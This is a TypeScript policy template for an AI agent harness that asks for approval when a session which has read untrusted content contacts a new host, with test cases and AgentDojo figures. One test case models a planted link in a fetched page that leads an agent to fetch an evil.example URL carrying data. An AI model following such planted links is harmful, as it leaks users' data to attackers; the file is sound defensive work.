import { MARK_UNTRUSTED, UNTRUSTED_LABELS } from './marking.ts'
import { casesOf, documentOf } from './policy-template.ts'
import type { PolicyTemplate } from './policy-template.ts'

const TITLE = 'No new hosts after untrusted content'

/** S10. */
export const FIRST_CONTACT: PolicyTemplate = {
  name: 'first-contact',
  title: TITLE,
  stops:
    'Data that leaves by an address: once the session has read what strangers may have written, a call that names a host which the session had not reached before is asked about, also when it only fetches a page. That is how a planted link carries data out.',
  costs:
    'Research agents that follow links ask at every new site: list the hosts that are always fine in an exception (unless resource.host in [...]). Hosts are read from arguments named like a destination (url, to, recipient, ...); one that stands in the middle of a text is not seen. In the research replay of AgentDojo (a static estimate), counting fetches as sinks beside the rules of taint-no-sink took attack success from 8.4 % to 6.1 % and the benign tasks that met it from 27.9 % to 32.6 %.',
  attachedByDefault: false,
  document: documentOf(
    TITLE,
    [
      MARK_UNTRUSTED,
      {
        id: 'ask-at-first-contact',
        effect: 'ask',
        on: ['outbound'],
        when: {
          all: [
            { path: 'session.labels', op: 'hasAny', value: UNTRUSTED_LABELS },
            { path: 'resource.contact', op: 'eq', value: 'first' },
          ],
        },
        reason: 'The session has read untrusted content and would reach a host for the first time.',
      },
    ],
    casesOf(
      {
        name: 'a new host after untrusted content is asked about',
        history: [
          {
            tool: 'fetch_url',
            class: 'read.untrusted',
            url: 'https://docs.example.com/a',
            result: { text: 'see https://evil.example/b' },
          },
        ],
        call: { tool: 'fetch_url', class: 'read.untrusted', args: { url: 'https://evil.example/b?d=1' } },
        expect: { decision: 'ask', rules: ['ask-at-first-contact'] },
      },
      {
        name: 'a host that was reached before passes',
        history: [
          {
            tool: 'fetch_url',
            class: 'read.untrusted',
            url: 'https://docs.example.com/a',
            result: { text: 'see the next page' },
          },
        ],
        call: { tool: 'fetch_url', class: 'read.untrusted', args: { url: 'https://docs.example.com/b' } },
        expect: { decision: 'allow', rules: [] },
      },
      {
        name: 'a new host in a clean session passes',
        call: { tool: 'fetch_url', class: 'read.untrusted', args: { url: 'https://docs.example.com/a' } },
        expect: { decision: 'allow', rules: [] },
      },
      {
        name: 'a call that names no host passes',
        labels: ['untrusted'],
        call: { tool: 'get_order', class: 'read.private', args: { id: 'A-4711' } },
        expect: { decision: 'allow', rules: [] },
      },
    ),
  ),
}
